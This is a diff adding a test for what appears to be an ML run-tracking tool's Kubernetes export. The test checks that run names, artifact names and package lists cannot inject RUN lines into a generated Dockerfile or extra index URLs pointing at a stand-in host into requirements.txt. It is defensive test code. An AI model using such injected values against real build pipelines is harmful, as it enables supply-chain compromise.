@@ -417,3 +417,20 @@ async def test_a_teammates_copy_of_your_run_id_is_skipped(workstation: Workstati
     assert TeamLineage(workstation.store).runs[mine.id].user == workstation.user
     for ref in (mine.id, mine.id[:12], mine.id[-8:].lower()):
         assert workstation.store.find_run(ref).name == "my-run"
+
+
+def test_export_puts_no_teammate_text_into_the_dockerfile_or_requirements(tmp_path: Path) -> None:
+    """A record's name, artifact name and package list are text someone wrote: they cannot add a RUN
+    line to the Dockerfile or an index URL to requirements.txt."""
+    from backends.export import export_k8s
+
+    run = Run(id=new_id(), user="mallory", command="x", instance="local", name="x)\nRUN touch /tmp/pwned\n# (",
+              artifacts=["model.npz"],
+              environment={"packages": ["numpy==1.26.4", "litserve==0.2.19\n--extra-index-url https://evil.example/simple",
+                                        "--index-url=https://evil.example"]})
+    export_k8s(run, tmp_path / "out", b"npz", model="model.npz")
+    docker = (tmp_path / "out" / "Dockerfile").read_text()
+    assert not [l for l in docker.splitlines() if "pwned" in l and not l.startswith("#")]
+    assert (tmp_path / "out" / "requirements.txt").read_text().split() == ["litserve", "numpy==1.26.4"]
+    with pytest.raises(LabdeckError, match="cannot go into a Dockerfile"):
+        export_k8s(run, tmp_path / "out2", b"npz", model="evil\nRUN touch pwned #.npz")
